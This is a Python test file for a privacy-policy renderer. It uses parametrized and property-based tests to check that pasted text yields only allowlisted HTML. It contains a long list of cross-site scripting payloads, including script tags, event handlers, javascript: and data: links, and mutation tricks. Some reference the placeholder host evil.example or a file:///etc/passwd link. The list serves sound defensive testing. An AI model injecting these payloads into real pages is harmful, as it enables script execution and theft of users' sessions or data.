"""Whatever staff paste into a policy, the page holds allowed HTML only."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from privacy.policy_text import render
from tests.pages import Page

_ALLOWED = {
    "a": {"class", "href", "title"},
    "blockquote": set(),
    "br": set(),
    "code": set(),
    "em": set(),
    "h2": {"id"},
    "h3": set(),
    "hr": set(),
    "li": set(),
    "ol": {"start"},
    "p": {"class", "id"},
    "section": {"aria-labelledby"},
    "strong": set(),
    "table": set(),
    "tbody": set(),
    "td": set(),
    "th": set(),
    "thead": set(),
    "tr": set(),
    "ul": set(),
}
_OURS = {"policy__anchor", "policy__number", "policy__paragraph"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example/'><input name=p><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://example.com' onmouseover=alert(1)>x</a>",
    "<a href='https://example.com' target=_blank>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- x --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<h2 id=s1 onclick=alert(1)>1. x</h2>",
    "<section aria-labelledby='x' onclick=alert(1)>",
    "</section></article><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/x)",
    '[x](https://example.com "a\\" onmouseover=alert(1)")',
    '[x](https://example.com/"onmouseover="alert(1))',
    "[x](<javascript:alert(1)>)",
    "[x](:)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](x "a\\" onerror=alert(1)")',
    "```<script>\nalert(1)\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "## 1. <script>alert(1)</script>",
    '## 1. "><img src=x onerror=alert(1)>',
    "1.1 <img src=x onerror=alert(1)>",
    '1.1 [x](#"><script>alert(1)</script>)',
    "| <script>alert(1)</script> | x |\n| --- | --- |\n| <img src=x onerror=alert(1)> | y |",
    "{{ <script>alert(1)</script> }}",
    "{{ cookies }}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]


def outside_the_list(html: str) -> list[str]:
    """Everything in the HTML that a policy may not hold."""
    page = Page(html)
    found = [f"unbalanced {tag}" for tag in page.unbalanced]
    for element in page.elements:
        if element.tag not in _ALLOWED:
            found.append(f"<{element.tag}>")
        for name, value in element.attributes.items():
            if name not in _ALLOWED.get(element.tag, set()) or not _is_fine(name, value):
                found.append(f"<{element.tag} {name}={value!r}>")
    return found


def _is_fine(name: str, value: str) -> bool:
    if name == "href":
        # As browsers read it: control characters and spaces are skipped.
        scheme = re.match(r"[a-zA-Z][-+.a-zA-Z0-9]*:", re.sub(r"[\x00-\x20]", "", value))
        return scheme is None or scheme[0].lower() in {"http:", "https:", "mailto:", "tel:"}
    if name == "class":
        return value in _OURS
    if name in {"id", "aria-labelledby"}:
        return re.fullmatch(r"s\d+(-\d+)?", value) is not None
    return name == "title" or value.isdigit()


def test_the_list_of_payloads_is_long() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize(
    "payload",
    [
        "<script>x</script>",
        "<p onclick=x>y</p>",
        "<a href='javascript:x'>y</a>",
        "<a href=' java\tscript:x'>y</a>",
        "<p id=x>y</p>",
        "<p class=x>y</p>",
        "<p>y",
    ],
)
def test_the_search_itself_finds_what_is_not_allowed(payload: str) -> None:
    assert outside_the_list(payload) != []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_harmless(payload: str) -> None:
    """Red when: `{"html": False}` becomes True and `nh3.clean` is taken out of `render`."""
    html = "".join(render(payload).pieces[::2])

    assert outside_the_list(html) == []


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.startswith("<")])
def test_raw_html_is_shown_as_the_text_that_it_is(payload: str) -> None:
    """Red when: `{"html": False}` becomes True: the text is gone then, not shown."""
    html = "".join(render(f"Before {payload}").pieces)

    assert html.startswith("<p>Before &lt;")


_FRAGMENTS = st.sampled_from(
    [
        *"<>\"'&`[]()!#*_-|\\{}\n\t 1.",
        "## 1. ",
        "1.1 ",
        "[x](",
        "javascript:",
        "<script>",
        "</section>",
        "onerror=",
        "<img src=",
        "&#x3c;",
        "{{ cookies }}",
        "| --- |",
        "\n\n",
        "\x00",
        "data:text/html,",
        "](#s1)",
        "style=",
    ]
)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.one_of(_FRAGMENTS, st.text(max_size=8)), max_size=40).map("".join))
def test_no_text_at_all_leads_outside_the_list(source: str) -> None:
    """Red when: `nh3.clean` is taken out of `render`."""
    html = "".join(render(source).pieces[::2])

    assert outside_the_list(html) == []
